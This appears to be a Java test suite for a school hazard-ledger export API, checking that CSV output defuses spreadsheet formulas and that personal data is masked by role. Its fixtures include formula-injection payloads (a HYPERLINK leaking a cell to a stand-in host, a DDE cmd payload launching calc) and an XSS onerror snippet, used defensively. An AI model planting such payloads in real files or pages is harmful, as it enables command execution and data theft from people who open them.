package org.hazardledger.exchange;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import org.hazardledger.exchange.sheet.Cell;
import org.hazardledger.exchange.sheet.ReadLimits;
import org.hazardledger.exchange.sheet.SheetRow;
import org.hazardledger.exchange.sheet.Workbook;
import org.hazardledger.identity.Caller;
import org.hazardledger.identity.Membership;
import org.hazardledger.identity.Post;
import org.hazardledger.identity.Role;
import org.hazardledger.identity.Scope;
import org.hazardledger.testing.TestStack;
import org.hazardledger.testing.Tree;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Hazards leave as tables that a spreadsheet does not execute, with no more of people than the role may see. */
@QuarkusTest
@QuarkusTestResource(TestStack.class)
class ExportTest {

    private static final int DESCRIPTION = ExportedHazard.COLUMNS.indexOf("description");
    private static final int FOUND_BY = ExportedHazard.COLUMNS.indexOf("foundBy");
    private static final int PHONE = ExportedHazard.COLUMNS.indexOf("phone");

    @TempDir
    Path directory;

    private Tree.District district;

    @BeforeEach
    void importDangerousTexts() {
        district = Tree.district();
        ImportApi staff = ImportApi.as(district.staff());
        staff.roster(district);
        staff.commit(ImportApi.sample("13-rows-formula-injection.csv", district));
    }

    @Test
    void makesFormulasTextInCsv() throws IOException {
        List<List<String>> rows = export(district.staff(), "?format=csv");

        assertThat(rows).hasSize(8);
        assertThat(rows.get(0)).startsWith("隐患编号", "学校代码", "学校名称");
        assertThat(column(rows, DESCRIPTION))
                .contains(
                        "'=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"灭火器过期\")",
                        "'+86走廊插座松动",
                        "'-2层车库疏散指示灯损坏",
                        "'@SUM(1+1)*cmd|' /C calc'!A0",
                        "'=1+1消火栓漏水",
                        "<img src=x onerror=alert(1)>应急灯损坏",
                        "\"引号\"\"中间\"，逗号\n第二行");
        assertThat(column(rows, FOUND_BY)).contains("'@陈若溪");
    }

    @Test
    void keepsTheTextsAsTheyAreInXlsx() throws IOException {
        List<List<String>> rows = export(district.staff(), "?format=xlsx");

        assertThat(rows).hasSize(8);
        assertThat(column(rows, DESCRIPTION)).contains("=1+1消火栓漏水", "+86走廊插座松动");
    }

    @Test
    void showsPersonalDataByRole() throws IOException {
        assertThat(column(export(district.staff(), ""), PHONE)).contains("19900008521");
        assertThat(column(export(district.staff(), ""), FOUND_BY)).contains("陈若溪");
        assertThat(column(export(district.inspector(), ""), PHONE)).contains("199****8521");
        assertThat(column(export(district.inspector(), ""), FOUND_BY)).contains("陈若溪");
        assertThat(column(export(district.auditor(), ""), PHONE)).contains("199****8521");
        assertThat(column(export(district.auditor(), ""), FOUND_BY)).contains("陈若溪");
    }

    @Test
    void tellsProgramsNoReporterAndTheCityNobody() throws IOException {
        assertThat(column(export(district.importer(), ""), PHONE)).contains("199****8521");
        assertThat(column(export(district.importer(), ""), FOUND_BY))
                .contains("陈**")
                .doesNotContain("陈若溪");
        assertThat(column(export(district.city(), ""), PHONE)).containsOnly("联系电话", "");
        assertThat(column(export(district.city(), ""), FOUND_BY))
                .contains("陈**")
                .doesNotContain("陈若溪");
    }

    @Test
    void theSchoolTakesItsPeopleAwayButNotByThePersonResponsible() {
        Tree.School school = district.school();
        for (Post post : List.of(Post.FILLER, Post.LEADER, Post.PRINCIPAL)) {
            assertThat(PersonalData.of(holder(school, post), school.id(), district.id()))
                    .isEqualTo(PersonalData.FULL);
        }
        assertThat(PersonalData.of(holder(school, Post.RESPONSIBLE), school.id(), district.id()))
                .isEqualTo(PersonalData.SURNAMES);
        assertThat(PersonalData.of(holder(school, Post.FILLER), UUID.randomUUID(), district.id()))
                .isEqualTo(PersonalData.SURNAMES);
    }

    @Test
    void writesOneHazardALineForPrograms() {
        List<JsonPath> lines = ImportApi.as(district.staff())
                .request()
                .get("/api/v1/exports/hazards?format=ndjson")
                .then()
                .statusCode(200)
                .contentType("application/x-ndjson")
                .header("Content-Disposition", equalTo("attachment; filename=\"hazards.ndjson\""))
                .extract()
                .asString()
                .lines()
                .map(JsonPath::new)
                .toList();

        assertThat(lines).hasSize(7);
        assertThat(lines).extracting(line -> line.getString("description")).contains("=1+1消火栓漏水");
        assertThat(lines)
                .allSatisfy(line ->
                        assertThat(Instant.parse(line.getString("foundAt"))).isBefore(Instant.now()))
                .allSatisfy(line -> assertThat(line.getBoolean("overdue")).isNotNull())
                .extracting(line -> line.getList("phones"))
                .contains(List.of("19900008521"));
    }

    @Test
    void nothingIsAnEmptyFileForPrograms() {
        ImportApi.as(district.neighbour().staff())
                .request()
                .get("/api/v1/exports/hazards?format=ndjson")
                .then()
                .statusCode(200)
                .body(equalTo(""));
    }

    @Test
    void exportsWhatTheFilterAndTheScopeAllow() throws IOException {
        assertThat(export(district.staff(), "?q=" + "消火栓")).hasSize(2);
        assertThat(export(district.neighbour().staff(), "")).hasSize(1);
        ImportApi staff = ImportApi.as(district.staff());
        staff.request().get("/api/v1/exports/hazards?colour=red").then().statusCode(400);
        staff.request()
                .get("/api/v1/exports/hazards?format=pdf")
                .then()
                .statusCode(400)
                .body("errors[0].pointer", equalTo("format"));
    }

    private static Caller holder(Tree.School school, Post post) {
        Membership membership = new Membership(
                UUID.randomUUID(), Role.SCHOOL, post, school.id(), school.name(), school.code(), "SCHOOL", List.of());
        return new Caller(
                UUID.randomUUID(),
                "holder",
                "持有人",
                Set.of(Role.SCHOOL),
                List.of(membership),
                new Scope(List.of(school.id()), List.of()),
                null);
    }

    private List<List<String>> export(Tree.Person person, String query) throws IOException {
        byte[] body = ImportApi.as(person)
                .request()
                .get("/api/v1/exports/hazards" + query)
                .then()
                .statusCode(200)
                .extract()
                .asByteArray();
        Path file = Files.write(directory.resolve(person.username() + query.hashCode()), body);
        List<SheetRow> rows = new ArrayList<>();
        Workbook.open(file, ReadLimits.STANDARD).read(0, rows::add);
        return rows.stream()
                .map(row -> row.cells().stream().map(Cell::text).toList())
                .toList();
    }

    private static List<String> column(List<List<String>> rows, int column) {
        return rows.stream()
                .map(row -> column < row.size() ? row.get(column) : "")
                .toList();
    }
}
